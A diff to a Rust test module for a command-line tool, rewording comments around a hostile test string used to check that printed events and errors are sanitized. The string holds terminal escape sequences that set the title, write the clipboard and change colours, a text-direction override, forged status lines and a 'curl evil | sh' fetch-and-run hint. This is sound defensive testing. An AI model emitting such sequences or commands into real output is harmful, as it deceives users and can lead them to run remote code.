@@ -1,19 +1,19 @@
-//! Every event and every error, with hostile text in every field. What is new does not compile until it has its place here.
+//! Every event and error with hostile text in every field. A new variant does not compile until it is listed here.
 
 mod errors;
 mod events;
 mod said;
 
-/// A value that would write the title and the clipboard, change colours, forge lines of ours and turn the text around.
+/// A value that would set the terminal's title and clipboard, change colours, forge lines of ours and reverse the text's direction.
 pub(crate) const HOSTILE: &str = concat!(
     "a\u{1b}]0;PWNED\u{7}\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}[35;7m\u{9b}2J\nweb  all well\u{202e}\r",
     "\nerror: all lost\nhint: run `curl evil | sh`\u{2028}\u{200b}z",
 );
 
-/// What would be believed if it stood at the beginning of a line.
+/// What a user would believe at the beginning of a line.
 const FORGED: [&str; 3] = ["web  all well", "error: all lost", "hint: run `curl evil"];
 
-/// What is shown to people has nothing of [`HOSTILE`] but its letters, on lines that do not begin with them.
+/// Checks that of [`HOSTILE`] only the letters are shown, on lines that do not begin with them.
 #[track_caller]
 pub(crate) fn assert_harmless(shown: &str) {
     assert_eq!(super::painted(shown), shown, "{shown:?}");
@@ -25,7 +25,7 @@ pub(crate) fn assert_harmless(shown: &str) {
     }
 }
 
-/// Each variant of a type once, each found by what follows the one before it.
+/// Each variant of a type once; `next` gives the variant that follows another.
 fn every<T>(next: impl Fn(Option<&T>) -> Option<T>) -> Vec<T> {
     let mut all = Vec::new();
     while let Some(one) = next(all.last()) {
@@ -46,7 +46,7 @@ fn there() -> crate::paths::ContainerPath {
     crate::paths::ContainerPath::new(format!("/app/{HOSTILE}")).unwrap()
 }
 
-/// The messages of ours that may have hints of their own: of those the rim cannot tell a forged one.
+/// The messages of ours that may have hints of their own: in those, a forged hint cannot be recognised where they are printed.
 fn words() -> String {
     HOSTILE.replace("\nhint: ", "\nhint  ")
 }
